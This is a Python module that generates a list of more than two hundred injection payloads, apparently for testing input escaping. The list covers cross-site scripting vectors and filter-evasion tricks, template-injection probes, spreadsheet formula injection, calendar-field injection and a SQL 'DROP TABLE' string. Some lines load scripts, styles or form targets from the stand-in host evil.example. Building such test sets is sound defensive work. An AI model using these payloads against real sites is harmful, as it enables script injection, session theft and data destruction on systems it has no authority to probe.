"""Over two hundred ways in which text has been made to run as a program: each tag, way round a filter and handler once.

Made from lists of tags, handlers and disguises, rather than copied from anybody's collection.
"""

from __future__ import annotations

from itertools import product

_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
_TAGS = (
    "img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "marquee", "iframe", "math",
    "a href=x",
)  # fmt: skip
_QUOTES = ("", '"', "'", "`")
_BREAKS = ('">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "}}", "%>")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x.js", "jar:x!/",
)  # fmt: skip
_LONE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<!--<img src=--><img src=x>",
    "{{ 7 * 7 }}", "{% raise %}", "${7*7}", "<%= 7 %>", "#{7*7}", "%(name)s %s", "{0.__class__}",
    "<form action=//evil.example><input type=submit>", "<object data=x>", "<embed src=x>",
    "<link rel=stylesheet href=x>",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1",  # noqa: RUF001
    "BEGIN:VEVENT", "x\nEND:VCALENDAR", "x\r\nATTENDEE:mailto:x@evil.example", "x\\nURL:javascript:alert(1)",
    "'; DROP TABLE events_event; --", "<plaintext>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *_LONE,
    *(
        f"<{tag} {handler}={quote}alert(1){quote}>"
        for tag, handler, quote in product(_TAGS, _HANDLERS, _QUOTES[:2])
    ),
    *(f"{before}<img src=x onerror=alert(1)>" for before in _BREAKS),
    *(f'" {handler}=alert(1) x="' for handler in _HANDLERS),
    *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
    *(f"[x]({scheme})" for scheme in _SCHEMES),
)
